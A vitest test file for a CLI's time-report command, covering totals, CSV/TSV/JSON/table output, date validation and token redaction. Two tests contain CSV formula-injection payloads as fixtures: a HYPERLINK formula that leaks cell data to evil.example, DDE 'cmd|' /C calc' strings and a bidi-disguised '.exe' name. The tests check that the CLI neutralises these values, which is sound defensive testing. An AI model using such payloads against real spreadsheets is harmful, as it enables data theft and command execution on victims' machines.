// time report against the time sandbox's seeded records: totals exact in seconds and amounts, csv lines for
// invoicing, json with rows and totals, dates refused before any request, the x-api-token scheme, and an
// experimental endpoint that may be missing.
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli, tempConfigDir } from '../helpers/cli.js';
import { useTimeSandbox } from '../helpers/time-sandbox.js';

const time = useTimeSandbox();
afterEach(() => time.sandbox.server.faults.clear());

const WEEK = ['--from', '2026-11-02', '--to', '2026-11-06'];
async function report(args: string[], env: Record<string, string> = time.tokenEnv(), configDir = tempConfigDir()) {
  const started = performance.now();
  const result = await runCli(['time', 'report', ...args], { env, configDir });
  return { ...result, ms: performance.now() - started };
}
const reportRequests = () => time.sandbox.server.requests.filter((request) => request.path === '/api/v1/reports/detailed');

describe('time report', () => {
  it('asks the service for the days given and sums the week exactly, per project and overall (-o json)', async () => {
    const before = reportRequests().length;
    const result = await report([...WEEK, '-o', 'json']);
    expect(result.exitCode, result.stderr).toBe(0);
    const sent = reportRequests().slice(before);
    expect(sent).toHaveLength(1);
    expect(Object.fromEntries(new URLSearchParams(sent[0]!.query))).toEqual({
      date_execution_start: '2026-11-02',
      date_execution_end: '2026-11-06',
      opt_sort_by: 'date_execution',
      opt_sort_direction: 'asc',
    });
    const body = JSON.parse(result.stdout);
    expect(body).toMatchObject({ from: '2026-11-02', to: '2026-11-06', group_by: 'project' });
    expect(body.rows).toHaveLength(10);
    expect(new Set(body.rows.map((row: { user: string }) => row.user))).toEqual(new Set(['Demo User', 'Ana Lima', 'Jürgen Weiß']));
    // Worked out by hand from the seeded records: 7200+1215+1 s, 12600+16230+7199+14400+27000 s, 9900+2700 s.
    expect(body.totals.groups).toEqual([
      { group: 'Café Zürich — Kassensystem', records: 3, seconds: 8416, time_total: '02:20:16', rate_total: '277.15' },
      { group: 'Website relaunch', records: 5, seconds: 77429, time_total: '21:30:29', rate_total: '2054.02' },
      { group: '東京オフィス', records: 2, seconds: 12600, time_total: '03:30:00', rate_total: null },
    ]);
    expect(body.totals.overall).toEqual({ records: 10, seconds: 98445, time_total: '27:20:45', rate_total: '2331.17' });
  });

  it('-o csv has entries, a subtotal per day and the total, for invoicing', async () => {
    const result = await report([...WEEK, '--group-by', 'day', '-o', 'csv']);
    expect(result.exitCode, result.stderr).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'line,group,date,user,project_id,project,task,description,time_start,time_end,time_total,seconds,rate_hour,rate_total,records',
    );
    expect(lines.filter((line) => line.startsWith('entry,'))).toHaveLength(10);
    expect(
      lines.filter((line) => line.startsWith('subtotal,')).map((line) => line.split(',').slice(1, 3).concat(line.split(',').slice(-5))),
    ).toEqual([
      ['2026-11-02', '2026-11-02', '10:00:30', '36030', '', '1004.80', '3'],
      ['2026-11-03', '2026-11-03', '03:05:15', '11115', '', '37.13', '2'],
      ['2026-11-04', '2026-11-04', '05:59:59', '21599', '', '572.97', '2'],
      ['2026-11-05', '2026-11-05', '00:45:01', '2701', '', '0.02', '2'],
      ['2026-11-06', '2026-11-06', '07:30:00', '27000', '', '716.25', '1'],
    ]);
    expect(lines.at(-1)).toBe('total,,,,,,,,,,27:20:45,98445,,2331.17,10');
    expect(result.stdout).toContain(
      'entry,,2026-11-03,Ana Lima,58,Café Zürich — Kassensystem,Support,"Bugfix ""Bon""",09:00:00,09:20:15,00:20:15,1215,110,37.13,',
    );
  });

  it('-o csv and -o tsv neutralise a formula in a project name for spreadsheets; times and amounts stay numbers', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Café Zürich")';
    const env = time.tokenEnv();
    const renamed = await runCli(['time', 'projects', 'update', '58', '--name', formula], { env });
    expect(renamed.exitCode, renamed.stderr).toBe(0);
    try {
      const csv = await report([...WEEK, '-o', 'csv'], env);
      expect(csv.exitCode, csv.stderr).toBe(0);
      expect(csv.ms).toBeLessThan(10_000);
      const rows = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
      const ours = rows.filter((row) => row.project === `'${formula}`);
      expect(ours.map((row) => [row.line, row.group, row.time_total, row.rate_total])).toEqual([
        ['entry', '', '02:00:00', '240'],
        ['entry', '', '00:20:15', '37.13'],
        ['entry', '', '00:00:01', '0.02'],
        ['subtotal', `'${formula}`, '02:20:16', '277.15'],
      ]);
      expect(csv.stdout).not.toMatch(/(^|,)"?=/m);
      expect(rows.at(-1)).toMatchObject({ line: 'total', time_total: '27:20:45', seconds: '98445', rate_total: '2331.17' });
      const tsv = await report([...WEEK, '-o', 'tsv'], env);
      expect(tsv.exitCode, tsv.stderr).toBe(0);
      expect(
        tsv.stdout
          .split('\n')
          .filter((line) => line.includes('HYPERLINK'))
          .every((line) => line.split('\t')[5] === `'${formula}`),
      ).toBe(true);
      expect(tsv.stdout).not.toMatch(/(^|\t)=/m);
    } finally {
      expect((await runCli(['time', 'projects', 'update', '58', '--name', 'Café Zürich — Kassensystem'], { env })).exitCode).toBe(0);
    }
  });

  it('-o csv from a hostile service: text cells starting with + - @ get a quote, a negative amount does not, bidi controls are escaped', async () => {
    const row = (fields: Record<string, unknown>) => ({
      user_name: 'Ana Lima',
      project_id: 58,
      project_name: 'Support',
      task_name: null,
      description: 'fix',
      date_execution: '2026-11-02',
      time_start: '09:00:00',
      time_end: '10:00:00',
      time_total: '01:00:00',
      rate_hour: 30,
      rate_total: '30.00',
      ...fields,
    });
    time.sandbox.server.faults.add({
      path: '/api/v1/reports/detailed',
      times: 2,
      fault: {
        kind: 'status',
        status: 200,
        body: {
          data: [
            row({ user_name: "@SUM(1+1)*cmd|' /C calc'!A0", description: "-2+3+cmd|' /C calc'!A0" }),
            row({ project_name: '+49 30 1234', description: 'credit \u202egnp.exe', rate_hour: -30, rate_total: '-42.50' }),
            row({ description: '\t=1+1' }),
          ],
        },
      },
    });
    const result = await report([...WEEK, '--group-by', 'none', '-o', 'csv']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.ms).toBeLessThan(10_000);
    const rows = parse(result.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((line) => [line.user, line.project, line.description, line.rate_hour, line.rate_total])).toEqual([
      ["'@SUM(1+1)*cmd|' /C calc'!A0", 'Support', "'-2+3+cmd|' /C calc'!A0", '30', '30.00'],
      ['Ana Lima', "'+49 30 1234", 'credit \\u202egnp.exe', '-30', '-42.50'],
      ['Ana Lima', 'Support', "'\t=1+1", '30', '30.00'],
      ['', '', '', '', '17.50'],
    ]);
    expect(result.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    const json = await report([...WEEK, '--group-by', 'none', '-o', 'json']);
    expect(json.exitCode, json.stderr).toBe(0);
    expect(JSON.parse(json.stdout).rows.map((line: Record<string, unknown>) => [line.project, line.description, line.rate_total])).toEqual([
      ['Support', "-2+3+cmd|' /C calc'!A0", '30.00'],
      ['+49 30 1234', 'credit \u202egnp.exe', '-42.50'],
      ['Support', '\t=1+1', '30.00'],
    ]);
  });

  it('a table shows each record, the subtotals and the total; an empty range says so and totals 00:00:00', async () => {
    const table = await report([...WEEK, '-o', 'table']);
    expect(table.exitCode, table.stderr).toBe(0);
    expect(table.stdout).toMatch(/Website relaunch\s*│\s*│\s*subtotal \(5 records\)\s*│\s*│\s*│\s*21:30:29\s*│\s*2054\.02/);
    expect(table.stdout).toMatch(/total \(10 records\)\s*│\s*│\s*│\s*27:20:45\s*│\s*2331\.17/);
    const empty = await report(['--from', '2025-01-01', '--to', '2025-01-31', '--group-by', 'none', '-o', 'json']);
    expect(empty.exitCode, empty.stderr).toBe(0);
    expect(empty.stderr).toBe('no time recorded from 2025-01-01 to 2025-01-31\n');
    expect(JSON.parse(empty.stdout).totals).toEqual({
      groups: [],
      overall: { records: 0, seconds: 0, time_total: '00:00:00', rate_total: null },
    });
  });

  it('refuses bad dates with exit 2 before any request', async () => {
    const before = time.sandbox.server.requests.length;
    for (const [args, message] of [
      [['--from', '2026-11-31', '--to', '2026-12-01'], 'trident: invalid --from "2026-11-31": expected a calendar date YYYY-MM-DD'],
      [['--from', '2026-11-02', '--to', '6.11.2026'], 'trident: invalid --to "6.11.2026": expected a calendar date YYYY-MM-DD'],
      [['--from', '2026-11-06', '--to', '2026-11-02'], 'trident: --from 2026-11-06 is after --to 2026-11-02'],
      [['--to', '2026-11-02'], 'trident: --from is required: the first and last day of the report, as YYYY-MM-DD'],
    ] as const) {
      const result = await report([...args]);
      expect(result.exitCode).toBe(2);
      expect(result.stderr.split('\n')[0]).toBe(message);
      expect(result.stdout).toBe('');
    }
    const grouped = await report([...WEEK, '--group-by', 'user']);
    expect(grouped.exitCode).toBe(2);
    expect(time.sandbox.server.requests.length).toBe(before);
  });

  it('with time.authScheme x-api-token sends the token in that header only, and --debug does not show it', async () => {
    const configDir = tempConfigDir();
    expect((await runCli(['config', 'set', 'time.authScheme', 'x-api-token'], { configDir })).exitCode).toBe(0);
    const env = time.tokenEnv();
    const before = reportRequests().length;
    const result = await report([...WEEK, '--debug', '-o', 'json'], env, configDir);
    expect(result.exitCode, result.stderr).toBe(0);
    const [sent] = reportRequests().slice(before);
    expect(sent!.headers['x-api-token']).toBe(env.TRIDENT_TIME_TOKEN);
    expect(sent!.headers.authorization).toBeUndefined();
    expect(result.stderr).toContain('"x-api-token":"[redacted]"');
    expect(result.stderr).not.toContain(env.TRIDENT_TIME_TOKEN!);
  });

  it('says the endpoint is experimental when the service does not serve it', async () => {
    time.sandbox.server.faults.add({
      path: '/api/v1/reports/detailed',
      fault: { kind: 'status', status: 404, body: { status: 404, message: 'Not found' } },
    });
    const result = await report(WEEK);
    expect(result.exitCode).toBe(5);
    expect(result.stderr).toBe(
      'trident: time service answered 404: Not found\n' +
        "hint: this time tracker may not serve GET /reports/detailed: time report is experimental (the endpoint is not in the service's published docs); check --url\n",
    );
  });

  it('is marked experimental in --help', async () => {
    const help = await runCli(['time', 'report', '--help']);
    expect(help.stdout).toMatch(/^EXPERIMENTAL: reads GET \/reports\/detailed/m);
    expect((await runCli(['time', '--help'])).stdout.replace(/\s+/g, ' ')).toMatch(
      /report \[options\] logged time from --from to --to, with totals \(experimental\)/,
    );
  });
});

describe('time report --help examples', () => {
  it('each runs on the sandbox as written and reports some time', async () => {
    const help = await runCli(['time', 'report', '--help']);
    // A long example is continued on the next line with " \\" (help wraps at 80 columns): one line again.
    const examples = (help.stdout.split('\nExamples:\n')[1] ?? '')
      .replace(/ \\\n +/g, ' ')
      .split('\n')
      .filter((line) => line.startsWith('  $ trident '))
      .map((line) => line.slice(12));
    expect(examples.length).toBeGreaterThanOrEqual(3);
    for (const example of examples) {
      const args = example.replace(/ > \S+$/, '').split(' ');
      const result = await runCli(args, { env: time.tokenEnv() });
      expect(result.exitCode, `${example}\n${result.stderr}`).toBe(0);
      // The seeded week, or November with one more hour on the 9th.
      expect(result.stdout, example).toMatch(/\b2[78]:20:45\b/);
    }
  });
});
